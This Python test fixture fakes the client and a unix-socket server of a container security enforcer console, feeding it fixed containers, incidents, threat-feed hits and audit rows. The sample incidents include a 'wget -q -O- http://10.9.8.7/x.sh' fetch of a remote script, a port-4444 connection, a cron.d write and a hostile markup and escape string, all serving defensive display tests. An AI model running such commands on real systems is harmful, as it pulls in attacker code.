"""A fake of console.client.EnforcerClient with fixed data, for snapshot tests and benchmarks.

It fakes the one boundary the console has (the client), so the SVG snapshots are stable:
fixed times, fixed ids, and hostile names to prove that nothing reaches the screen raw.
Tests that need the real thing use a real enforcer (tests/integration/test_console_real.py).
"""

from __future__ import annotations

import asyncio
import copy
from typing import Any, AsyncIterator

from console.client import Unreachable
from enforcer import protocol
from enforcer.protocol import ProtocolError

NOW = 1_795_900_000.0  # 2026-11-28T20:26:40Z: every relative time in the snapshots is from here
HOSTILE = "[bold red]evil[/]\x1b[31m\x07\udcff"


def iso(epoch: float) -> str:
    from enforcer.models import iso_time

    return iso_time(epoch)


def container(cid: str, name: str, app: str, service: str, image: str, *, mode: str = "alert",
              profile_state: str = "active", learning_left: float = 0.0, state: str = "running",
              ip: str = "", alerts: int = 0, frozen: bool = False, pids: list[int] | None = None) -> dict[str, Any]:
    return {"id": cid, "name": name, "app": app, "service": service, "image": image, "image_id": "sha256:" + cid,
            "image_digest": "sha256:" + cid, "state": state, "pid": (pids or [0])[0], "pids": pids or [],
            "cgroup_id": 100 + len(name), "cgroup_path": "", "networks": [{"network": f"{app}_default", "ip": ip,
                                                                           "ipv6": "", "mac": "", "aliases": []}],
            "ports": [], "labels": {}, "compose_files": [], "started_at": NOW - 3600, "created_at": NOW - 3700,
            "mode": mode, "profile_state": profile_state, "learning_left": learning_left, "frozen": frozen,
            "alerts": alerts}


def sample_containers() -> list[dict[str, Any]]:
    return [
        container("a1" * 32, "blog_web_1", "blog", "web", "local/blog-web:1.4", ip="172.20.0.3", alerts=2),
        container("b2" * 32, "blog_db_1", "blog", "db", "local/blog-db:15", ip="172.20.0.2"),
        container("c3" * 32, "blog_cache_1", "blog", "cache", "local/redis:7", mode="protect", ip="172.20.0.4"),
        container("d4" * 32, "shop_api_1", "shop", "api", "local/shop-api:2", profile_state="learning",
                  learning_left=312.0, mode="learn", ip="172.21.0.2", alerts=1),
        container("e5" * 32, "shop_api_2", "shop", "api", "local/shop-api:2", profile_state="learning",
                  learning_left=312.0, mode="learn", ip="172.21.0.3", frozen=True, state="paused"),
        container("f6" * 32, HOSTILE + "_1", HOSTILE, "x", "local/evil:latest", ip="172.22.0.9", alerts=1),
    ]


def sample_apps(containers: list[dict[str, Any]]) -> list[dict[str, Any]]:
    apps: dict[str, dict[str, Any]] = {}
    for c in containers:
        app = apps.setdefault(c["app"], {"name": c["app"], "services": {}, "compose": None, "mode": "alert",
                                          "lone": False})
        app["services"].setdefault(c["service"], []).append(c["id"])
    if "blog" not in apps or "shop" not in apps:
        return list(apps.values())
    apps["blog"]["edges"] = [
        {"from": "web", "to": "db", "port": 5432, "proto": "tcp", "source": "seed"},
        {"from": "web", "to": "cache", "port": 6379, "proto": "tcp", "source": "learned"},
        {"from": "shop_api", "to": "web", "port": 80, "proto": "tcp", "allowed": False},
    ]
    apps["shop"]["mode"] = "learn"
    apps["shop"]["compose"] = {"project": "shop", "files": ["/srv/shop/docker-compose.yml"],
                               "services": {"api": {"name": "api", "links": [], "depends_on": []}}, "networks": []}
    return list(apps.values())


KINDS = ("process", "network", "file", "syscall", "threat")
SEVERITIES = ("low", "medium", "high", "critical")


def incident(i: int, c: dict[str, Any], kind: str = "process", severity: str = "high", count: int = 1,
             summary: str | None = None, detail: dict[str, Any] | None = None) -> dict[str, Any]:
    t = iso(NOW - 600 + i)
    return {"id": i, "time": t, "host": "node-1", "app": c["app"], "service": c["service"], "container": c["name"],
            "container_id": c["id"], "image": c["image"], "kind": kind, "severity": severity,
            "summary": summary or f"unexpected {kind} #{i}", "detail": detail or {"pid": 4000 + i, "path": f"/bin/x{i}"},
            "action": "alerted", "count": count, "first_seen": iso(NOW - 900 + i), "last_seen": t,
            "subject": f"/bin/x{i}", "rule": "profile", "would": None, "tags": [], "resolved": ""}


def sample_incidents(containers: list[dict[str, Any]]) -> list[dict[str, Any]]:
    web, _, _, api, _, evil = containers
    rows = [
        incident(1, web, "process", "high", 3, "unexpected process /usr/bin/wget",
                 {"path": "/usr/bin/wget", "sha256": "9f" * 32, "pid": 4411, "ppid": 4402,
                  "argv": ["wget", "-q", "-O-", "http://10.9.8.7/x.sh"]}),
        incident(2, api, "network", "medium", 1, "unexpected inbound connection from 172.21.0.9:4444",
                 {"peer": "172.21.0.9", "port": 4444, "direction": "inbound", "proto": "tcp"}),
        incident(3, web, "file", "low", 12, "write under /etc: /etc/cron.d/job", {"path": "/etc/cron.d/job"}),
        incident(4, evil, "threat", "critical", 1, "feed hit: " + HOSTILE,
                 {"indicator": "10.9.8.7", "feed": "feodotracker", "peer": "10.9.8.7", "note": HOSTILE}),
        incident(5, api, "syscall", "high", 2, "dangerous syscall unshare", {"syscall": "unshare", "pid": 5150}),
    ]
    # Alert mode's dry run of protect, and ATT&CK techniques, as the enforcer sends them.
    rows[0].update(would="killed", tags=["T1105"], subject="/usr/bin/wget")
    rows[1].update(would="blocked", tags=["T1210"])
    rows[4].update(tags=["T1611"], rule="research:dangerous-syscall")
    # One injected shell in web did both the download and the cron write: one story.
    shell = {"pid": 4402, "path": "/bin/sh", "start": iso(NOW - 700)}
    rows[0]["lineage"] = rows[2]["lineage"] = shell
    rows[4]["lineage"] = {"pid": 5100, "path": "(entrypoint)", "start": ""}
    return rows


def sample_feeds() -> list[dict[str, Any]]:
    return [
        {"name": "feodotracker", "url": "https://127.0.0.1:8443/feodo.txt", "format": "ip-list", "enabled": True,
         "local": False, "interval": 3600, "last_sync": NOW - 420, "status": "ok", "entries": 734, "rejected": 2,
         "dropped": 5, "error": "", "hits": 1},
        {"name": "urlhaus", "url": "https://127.0.0.1:8443/urlhaus.csv", "format": "csv", "enabled": True,
         "local": False, "interval": 3600, "last_sync": NOW - 86400, "status": "error", "entries": 0, "rejected": 0,
         "dropped": 0, "error": "HTTP 503 from 127.0.0.1", "hits": 0},
        {"name": "local-iocs", "url": "file:///etc/stockade/iocs.txt", "format": "sha256-list", "enabled": False,
         "local": True, "interval": 600, "last_sync": None, "status": "never", "entries": 0, "rejected": 0,
         "dropped": 0, "error": "", "hits": 0},
    ]


def sample_hits() -> list[dict[str, Any]]:
    return [{"time": iso(NOW - 30), "feed": "feodotracker", "indicator": "10.9.8.7", "type": "ip",
             "matched": "connect 172.22.0.9 -> 10.9.8.7:443", "container": HOSTILE + "_1", "alert_id": 4}]


def sample_audit() -> list[dict[str, Any]]:
    return [
        {"id": 2, "time": iso(NOW - 100), "uid": 0, "user": "root", "action": "freeze", "target": "shop_api_2",
         "args": {"target": "shop_api_2"}, "result": "ok"},
        {"id": 1, "time": iso(NOW - 200), "uid": 1001, "user": "alice", "action": "mode", "target": "blog",
         "args": {"target": "blog", "mode": "protect"}, "result": "refused: read-only user"},
    ]


def sample_profile(c: dict[str, Any]) -> dict[str, Any]:
    def entry(key: str, data: dict[str, Any], source: str = "learned") -> dict[str, Any]:
        return {"key": key, "data": data, "source": source, "first_seen": iso(NOW - 3000)}

    return {"container": c, "profile": {
        "id": 7, "app": c["app"], "service": c["service"], "image_digest": c["image_digest"], "state": "active",
        "created": iso(NOW - 3600), "learn_until": iso(NOW - 3000), "activated": iso(NOW - 3000), "mode": "alert",
        "entries": {
            "process": [entry("/usr/sbin/nginx", {"sha256": "ab" * 32}, "seed"),
                        entry("/bin/sh", {"sha256": "cd" * 32}),
                        entry("/tmp/" + HOSTILE, {"sha256": "ef" * 32})],
            "listener": [entry("tcp/80", {"port": 80, "proto": "tcp"}, "seed")],
            "peer": [entry("db:5432", {"service": "db", "port": 5432}, "seed")],
            "file": [entry("/var/log/nginx/", {})],
            "syscall": [entry(name, {}) for name in ("read", "write", "openat", "epoll_wait", "accept4")],
        }}}


class FakeEnforcerClient:
    """Answers the ops from fixed data; `errors` maps ops to the error they answer with."""

    def __init__(self, *, role: str = "admin", errors: dict[str, ProtocolError] | None = None,
                 incidents: int | None = None, containers: list[dict[str, Any]] | None = None,
                 host: str = "node-1", path: str = "/run/stockade/enforcer.sock") -> None:
        self.path = path
        self.host = host
        self.reachable = True  # False: connect fails as with no enforcer there (see drop())
        self.hello: dict[str, Any] = {}
        self.role = role
        self.errors = dict(errors or {})
        self.containers = containers if containers is not None else sample_containers()
        self.apps = sample_apps(self.containers)
        if incidents is None:
            self.incidents = sample_incidents(sample_containers())
        else:
            cs = self.containers
            self.incidents = [incident(i, cs[i % len(cs)], KINDS[i % 5], SEVERITIES[i % 4], 1 + i % 7)
                              for i in range(1, incidents + 1)]
        self.calls: list[tuple[str, dict[str, Any]]] = []
        # Seeded entries never used ({"kind", "key", "what"}): the profile shows them, prune removes them.
        self.unused_seeds: list[dict[str, Any]] = []
        self.queue: asyncio.Queue[dict[str, Any]] = asyncio.Queue()
        self.connected = False

    async def connect(self, timeout: float = 3.0) -> dict[str, Any]:
        if not self.reachable:
            raise Unreachable(f"cannot reach the enforcer at {self.path}: no such socket (is stockade-enforcer running?)")
        self.connected = True
        ops = ["hello", "ping", "subscribe", "apps", "containers", "container", "status", "audit", "profile",
               "alerts", "alert", "mode", "relearn", "feeds", "feeds.sync", "feeds.hits", "block", "unblock",
               "blocks", "freeze", "unfreeze", "kill", "forensics", "profile.prune"]
        self.hello = {"protocol": 1, "server": "stockade-enforcer", "version": "0.1.0", "host": self.host,
                      "started": NOW - 7322, "uid": 0, "user": "root", "role": self.role,
                      "ops": ops}
        return self.hello

    async def close(self) -> None:
        self.connected = False

    async def subscribe(self, topics: list[str]) -> list[str]:
        return list(topics)

    async def events(self) -> AsyncIterator[dict[str, Any]]:
        while True:
            event = await self.queue.get()
            yield event
            if event.get("event") == "disconnected":
                return

    def drop(self) -> None:
        """The enforcer goes away: the connection ends and reconnecting fails until
        `reachable` is set again."""
        self.reachable = False
        self.connected = False
        self.queue.put_nowait({"event": "disconnected", "data": {}})

    def push(self, topic: str, data: Any) -> None:
        self.queue.put_nowait({"event": topic, "data": data})

    async def call(self, op: str, timeout: float | None = 30.0, **args: Any) -> Any:
        self.calls.append((op, args))
        if op in self.errors:
            raise self.errors[op]
        if not self.reachable:
            raise Unreachable(f"cannot reach the enforcer at {self.path}: not connected")
        if op == "status":
            return {"host": self.host, "version": "0.1.0", "started": NOW - 7322, "uptime": 7322.0,
                    "docker": {"connected": True, "error": ""}, "containers": len(self.containers),
                    "containers_watched": len(self.containers) - 1, "store": {"pending_writes": 0, "error": ""},
                    "socket": {}, "sensors": [
                        {"name": "process", "loaded": True, "events": 1200, "rate": 3.5, "lost": 0, "error": ""},
                        {"name": "network", "loaded": True, "events": 800, "rate": 1.25, "lost": 7, "error": ""}],
                    "alerts": {"low": 1, "medium": 1, "high": 2, "critical": 1}}
        if op == "containers":
            return copy.deepcopy(self.containers)
        if op == "container":
            for c in self.containers:
                if c["id"].startswith(args.get("target", "")) or c["name"] == args.get("target"):
                    return copy.deepcopy(c)
            raise ProtocolError("no such container", protocol.NOT_FOUND)
        if op == "apps":
            return copy.deepcopy(self.apps)
        if op == "alerts":
            rows = self.incidents
            if args.get("container"):
                rows = [a for a in rows if a["container_id"] == args["container"]]
            return sorted(rows, key=lambda a: a["id"], reverse=True)[: args.get("limit", 1000)]
        if op == "feeds":
            return sample_feeds()
        if op == "feeds.hits":
            return sample_hits()
        if op == "audit":
            return sample_audit()
        if op == "profile":
            c = next((c for c in self.containers if c["id"] == args.get("target")), self.containers[0])
            out = sample_profile(c)
            if self.unused_seeds:
                out["profile"]["never_used"] = len(self.unused_seeds)
                for u in self.unused_seeds:
                    out["profile"]["entries"][u["kind"]].append(
                        {"key": u["key"], "data": {}, "source": "seed", "first_seen": iso(NOW - 3000), "used": False,
                         "never_used": True})
            return out
        if op == "profile.prune":
            removed = [dict(u) for u in self.unused_seeds]
            if not args.get("dry_run"):
                self.unused_seeds = []
            return {"container": "blog_web_1", "profile": 7, "app": "blog", "service": "web", "state": "active",
                    "dry_run": bool(args.get("dry_run")), "removed": removed}
        if op in ("freeze", "unfreeze"):
            for c in self.containers:
                if c["id"] == args.get("target"):
                    c["frozen"] = op == "freeze"
            return {"container": args.get("target"), "state": "FROZEN" if op == "freeze" else "THAWED"}
        if op == "kill":
            return {"pid": args.get("pid"), "signal": 9}
        if op == "blocks":
            return [{"id": 9, "container": "blog_web_1", "container_id": "a1" * 32, "peer": "10.9.8.7/32", "port": 443,
                     "proto": "tcp", "created": iso(NOW - 50), "reason": "by root", "source": "manual"}] \
                if args.get("target") == "a1" * 32 else []
        if op == "unblock":
            return {"removed": 1}
        if op == "block":
            return {"id": 1, "container": args.get("target"), "peer": args.get("peer"), "port": args.get("port"),
                    "proto": "tcp", "created": iso(NOW), "reason": "console"}
        if op == "mode" and args.get("preview"):
            stops = [{"id": a["id"], "container": a["container"], "kind": a["kind"], "subject": a.get("subject", ""),
                      "summary": a["summary"], "would": a["would"], "count": a["count"], "last_seen": a["time"]}
                     for a in self.incidents if a.get("would")
                     and (a["container_id"] == args.get("target") or a["app"] == args.get("target"))]
            return {"target": args.get("target"), "scope": args.get("scope"), "mode": args.get("mode"),
                    "preview": True, "window": 86400.0, "would_stop": stops}
        if op == "mode":
            return {"target": args.get("target"), "scope": args.get("scope"), "mode": args.get("mode")}
        if op == "allow":
            a = next((a for a in self.incidents if a["id"] == args.get("alert_id")), None)
            if a is None:
                raise ProtocolError(f"no alert {args.get('alert_id')}", protocol.NOT_FOUND)
            allowed = f"run {a.get('subject') or a['summary']}"
            if args.get("dry_run"):
                return {"alert_id": a["id"], "profile": 7, "app": a["app"], "service": a["service"],
                        "allowed": allowed, "dry_run": True}
            a["resolved"] = "allowed by root at " + iso(NOW)
            return {"alert_id": a["id"], "profile": 7, "app": a["app"], "service": a["service"], "allowed": allowed,
                    "new": True, "resolved": a["resolved"]}
        if op == "relearn":
            return {"profiles": [7]}
        if op == "forensics":
            return {"path": "/var/lib/stockade/forensics/x.tar.gz", "size": 1234, "sha256": "00" * 32, "members": 9}
        if op == "feeds.sync":
            return [{"name": f["name"], "status": "ok"} for f in sample_feeds()]
        raise ProtocolError(f"unknown op {op!r}", protocol.UNKNOWN_OP)


class FakeEnforcerServer:
    """A small server on a unix socket that speaks the protocol (docs/protocol.md) with the
    answers of FakeEnforcerClient, so the REAL console client can be driven with fixed data
    and with event bursts on demand."""

    def __init__(self, path: str, data: FakeEnforcerClient | None = None) -> None:
        self.path = path
        self.data = data or FakeEnforcerClient()
        self.writers: dict[asyncio.StreamWriter, set[str]] = {}
        self._server: asyncio.base_events.Server | None = None

    async def start(self) -> "FakeEnforcerServer":
        await self.data.connect()
        self._server = await asyncio.start_unix_server(self._serve, path=self.path, limit=protocol.MAX_LINE)
        return self

    async def stop(self) -> None:
        if self._server is not None:
            self._server.close()
        for writer in list(self.writers):
            writer.close()
        self.writers.clear()

    async def publish(self, topic: str, items: list[Any]) -> None:
        """Send every item as one event, in one write per client (a burst)."""
        for writer, topics in list(self.writers.items()):
            if topic in topics:
                writer.write(b"".join(protocol.encode({"event": topic, "data": item}) for item in items))
                await writer.drain()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.writers[writer] = set()
        try:
            while line := await reader.readline():
                request = protocol.decode(line)
                op = request.pop("op", None)
                req_id = request.pop("id", None)
                try:
                    if op == "hello":
                        result: Any = self.data.hello
                    elif op == "subscribe":
                        self.writers[writer].update(request.get("topics") or [])
                        result = {"topics": sorted(self.writers[writer])}
                    else:
                        result = await self.data.call(str(op), **request)
                    reply = {"id": req_id, "ok": True, "result": result}
                except ProtocolError as e:
                    reply = {"id": req_id, "ok": False, "error": str(e), "code": e.code}
                writer.write(protocol.encode(reply))
                await writer.drain()
        except (ConnectionError, OSError):
            pass
        finally:
            self.writers.pop(writer, None)
            writer.close()
